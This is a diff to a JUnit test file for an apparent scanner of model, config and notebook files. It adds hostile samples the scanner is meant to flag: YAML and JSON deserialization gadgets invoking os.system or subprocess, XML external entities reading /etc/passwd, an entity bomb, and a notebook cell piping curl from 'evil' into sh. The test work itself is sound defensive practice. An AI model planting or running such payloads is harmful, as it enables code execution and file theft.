@@ -9,6 +9,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class TextFormatTest {
@@ -50,15 +51,83 @@ class TextFormatTest {
     }
 
     @Test
-    void codeIsSuspiciousByItsFirstLineOrItsName() {
+    void scriptsAreSuspiciousByTheirFirstLineOrTheirName() {
         assertThat(rules(scan("run", bytes("#!/bin/sh\nid\n")))).containsExactly("text.source-code");
-        assertThat(rules(scan("modeling.py", bytes("import torch\n")))).containsExactly("text.source-code");
+        assertThat(rules(scan("run.sh", bytes("id\n")))).containsExactly("text.source-code");
+        assertThat(scan("modeling.py", bytes("import torch\n")).findings()).isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "a: !!python/object/apply:os.system ['id'] | text.denied-reference",
+                "a: !!python/name:subprocess.Popen | text.denied-reference",
+                "a: !!javax.script.ScriptEngineManager [] | text.denied-reference",
+                "a: !!python/object:acme.Thing {} | text.unknown-reference",
+                "model: {_target_: builtins.exec, _args_: [x]} | text.denied-reference",
+                "chat_template: '{{ x[''__class__''] }}' | text.template-escape"
+            })
+    void yamlThatReachesCodeIsFound(String yaml, String rule) {
+        assertThat(rules(scan("config.yaml", bytes(yaml)))).contains(rule);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "# !!python/object/apply:os.system is dangerous\na: 1\n",
+                "a: '!!python/object/apply:os.system'\n",
+                "a: !!python/tuple [1, 2]\nb: &x {c: 1}\nd: *x\n",
+                "trainer: {_target_: pytorch_lightning.Trainer}\nmodel: {_target_: acme.Model}\n"
+            })
+    void yamlThatOnlyMentionsCodeIsClean(String yaml) {
+        assertThat(scan("config.yaml", bytes(yaml)).findings()).isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "{'_target_': 'os.system'} | text.denied-reference",
+                "{'py/object': 'subprocess.Popen'} | text.denied-reference",
+                "{'__class__': 'system', '__module__': 'os', '__loader__': 'TypeNode'} | text.denied-reference",
+                "{'__class__': 'A', '__module__': 'acme', '__loader__': 'ObjectNode'} | text.unknown-reference"
+            })
+    void jsonThatReachesCodeIsFound(String json, String rule) {
+        assertThat(rules(scan("schema.json", bytes(json.replace('\'', '"'))))).containsExactly(rule);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '`',
+            value = {
+                "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a> | text.external-entity",
+                "<!DOCTYPE a [<!ENTITY a 'x'><!ENTITY b '&a;&a;&a;'>]><a>&b;</a> | text.entity-bomb",
+                "<?xml version='1.0'?><a><xi:include href='file:///etc/passwd'/></a> | text.inclusion"
+            })
+    void xmlThatReadsFilesOrGrowsIsFound(String xml, String rule) {
+        assertThat(rules(scan("model.pmml", bytes(xml)))).containsExactly(rule);
     }
 
     @Test
-    void yamlThatBuildsObjectsIsSuspicious() {
-        assertThat(rules(scan("a.yaml", bytes("!!python/object/apply:os.system ['id']\n"))))
-                .containsExactly("text.yaml-object");
+    void plainXmlIsClean() {
+        String xml = "<?xml version='1.0'?><!DOCTYPE PMML [<!ENTITY v '4.4'>]><PMML version='&v;'/>";
+
+        assertThat(scan("model.pmml", bytes(xml)).findings()).isEmpty();
+    }
+
+    @Test
+    void notebooksAreJudgedByTheirCells() {
+        String cell = "{'nbformat': 4, 'cells': [{'cell_type': 'code', 'source': ['%s']}]}";
+
+        assertThat(rules(scan(
+                        "a.ipynb",
+                        bytes(cell.formatted("!curl http://evil/x | sh").replace('\'', '"')))))
+                .containsExactly("code.hostile-command");
+        assertThat(scan("a.ipynb", bytes(cell.formatted("!pip install torch").replace('\'', '"')))
+                        .findings())
+                .isEmpty();
     }
 
     @Test
